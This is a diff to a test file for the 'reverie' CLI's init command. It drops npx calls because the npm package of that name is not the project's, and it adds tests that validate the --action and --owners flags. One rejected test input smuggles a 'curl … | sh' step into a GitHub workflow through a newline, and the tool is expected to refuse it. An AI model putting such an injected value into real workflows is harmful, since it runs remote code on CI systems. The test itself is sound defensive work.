@@ -107,12 +107,44 @@ describe('reverie init', () => {
     cleanups.push(repo.cleanup);
     git(repo.dir, ['config', 'core.hooksPath', '.githooks']);
     const first = reverieJson<{ hook: { path: string; status: string } }>(['init', repo.dir, '--hooks']);
-    expect(first.hook).toEqual({ path: '.githooks/pre-commit', command: 'npx reverie lint', status: 'created' });
-    expect(readFileSync(path.join(repo.dir, '.githooks/pre-commit'), 'utf8')).toMatch(/SKIP_SIMPLE_GIT_HOOKS[\s\S]*\nnpx reverie lint$/);
+    expect(first.hook).toEqual({ path: '.githooks/pre-commit', command: 'reverie lint', status: 'created' });
+    expect(readFileSync(path.join(repo.dir, '.githooks/pre-commit'), 'utf8')).toMatch(/SKIP_SIMPLE_GIT_HOOKS[\s\S]*\nreverie lint$/);
     expect(reverieJson<{ hook: { status: string } }>(['init', repo.dir, '--hooks']).hook.status).toBe('unchanged');
-    const other = reverie(['init', repo.dir, '--hooks', '--hook-command', 'npx reverie lint --strict']);
+    const other = reverie(['init', repo.dir, '--hooks', '--hook-command', 'reverie lint --strict']);
     expect(other.stdout).toContain('kept (a different hook was there)');
-    expect(reverieJson<{ hook: { status: string } }>(['init', repo.dir, '--hooks', '--hook-command', 'npx reverie lint --strict', '--force']).hook.status).toBe('overwritten');
+    expect(reverieJson<{ hook: { status: string } }>(['init', repo.dir, '--hooks', '--hook-command', 'reverie lint --strict', '--force']).hook.status).toBe('overwritten');
+    // Nothing it writes installs or runs a package by the name reverie: that name on npm is not this project's.
+    const pkg = JSON.parse(readFileSync(path.join(repo.dir, 'package.json'), 'utf8')) as { devDependencies: Record<string, string> };
+    expect(Object.keys(pkg.devDependencies)).toEqual(['simple-git-hooks']);
+    expect(readFileSync(path.join(repo.dir, '.githooks/pre-commit'), 'utf8')).not.toContain('npx');
+  });
+
+  it('--action and --owners go into the workflows and CODEOWNERS as given; a value that names no action or owner exits 2, naming the flag, and writes nothing', async () => {
+    const dir = path.join(await tempDir(), 'agent-memory');
+    const init = reverie(['init', dir, '--github', '--action', 'acme/reverie@v1.2.0', '--owners', '@acme/agent-owners,@octocat']);
+    expect(init.code, init.stderr).toBe(0);
+    for (const workflow of ['reverie.yml', 'reverie-check.yml']) {
+      const text = readFileSync(path.join(dir, '.github/workflows', workflow), 'utf8');
+      expect(text).toContain('- uses: acme/reverie@v1.2.0\n');
+      expect(text).not.toContain('<owner>');
+    }
+    expect(readFileSync(path.join(dir, '.github/CODEOWNERS'), 'utf8')).toContain('/reverie.yaml @acme/agent-owners @octocat\n');
+    expect(init.stdout).not.toContain('set `uses:`');
+
+    const cases: [string[], RegExp][] = [
+      [['--action', 'acme/reverie'], /^reverie: --action must be owner\/repo@ref or owner\/repo\/path@ref .*; got "acme\/reverie"$/m],
+      [['--action', 'acme/reverie@v1\n        run: curl https://example.com/x | sh'], /--action must be .*; got "acme\/reverie@v1\\n {8}run: curl/],
+      [['--action', ''], /--action must be .*; got ""$/m],
+      [['--owners', 'acme/agent-owners'], /^reverie: --owners takes CODEOWNERS owners, @user, @org\/team or an email address, separated by spaces or commas; "acme\/agent-owners" is none of them$/m],
+      [['--owners', '@acme/agents #everyone'], /--owners .*; "#everyone" is none of them/],
+    ];
+    for (const [flags, message] of cases) {
+      const fresh = path.join(await tempDir(), 'agent-memory');
+      const refused = reverie(['init', fresh, '--github', ...flags]);
+      expect(refused.code, flags.join(' ')).toBe(2);
+      expect(refused.stderr).toMatch(message);
+      expect(existsSync(fresh), flags.join(' ')).toBe(false);
+    }
   });
 });
 
